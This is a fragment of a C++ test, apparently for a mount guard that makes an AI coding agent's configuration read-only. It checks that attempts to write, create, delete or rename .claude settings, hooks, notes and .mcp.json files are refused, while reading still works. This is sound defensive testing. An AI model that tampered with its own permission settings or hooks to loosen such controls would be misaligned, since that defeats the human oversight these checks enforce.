        fs::create_directory(ws + "/sub");
    };
    MountedGuard g(spec);
    const FileState settings = file_state(g.ws(".claude/settings.json"));
    const FileState mcp = file_state(g.ws(".mcp.json"));
    const FileState old_notes = file_state(g.ws(".claude/notes-old.md"));
    // deny rows
    CHECK(open_errno(g.ws(".claude/settings.json"), O_WRONLY) == EACCES);
    CHECK(open_errno(g.ws(".claude/settings.json"), O_WRONLY | O_TRUNC) == EACCES);
    CHECK(errno_of(::unlink(g.ws(".claude/settings.json").c_str())) == EACCES);
    CHECK(open_errno(g.ws(".claude/settings.local.json"), O_WRONLY | O_CREAT) == EACCES);
    CHECK(errno_of(::mkdir(g.ws(".claude/hooks").c_str(), 0755)) == EACCES);
    CHECK(open_errno(g.ws(".mcp.json"), O_WRONLY) == EACCES);
    CHECK(open_errno(g.ws(".mcp.json"), O_WRONLY | O_APPEND) == EACCES);
    CHECK(open_errno(g.ws("sub/.mcp.json"), O_WRONLY | O_CREAT) == EACCES);
    // the ask row for the directory itself, with no approver configured: refused
    CHECK(open_errno(g.ws(".claude/notes.md"), O_WRONLY | O_CREAT) == EACCES);
    CHECK(open_errno(g.ws(".claude/notes-old.md"), O_WRONLY | O_APPEND) == EACCES);
    CHECK(errno_of(::rename(g.ws(".claude").c_str(), g.ws("claude-away").c_str())) == EACCES);
    // reading is untouched
    CHECK(read_file(g.ws(".claude/settings.json")) == "{}\n");
    CHECK(g.unmount() == 0);
    CHECK(file_state(g.ws(".claude/settings.json")) == settings);
    CHECK(file_state(g.ws(".mcp.json")) == mcp);
    CHECK(file_state(g.ws(".claude/notes-old.md")) == old_notes);
    CHECK_FALSE(file_state(g.ws(".claude/notes.md")).exists);
    CHECK_FALSE(file_state(g.ws(".claude/settings.local.json")).exists);
    CHECK_FALSE(file_state(g.ws(".claude/hooks")).exists);
    CHECK_FALSE(file_state(g.ws("sub/.mcp.json")).exists);
    CHECK_FALSE(file_state(g.ws("claude-away")).exists);
}
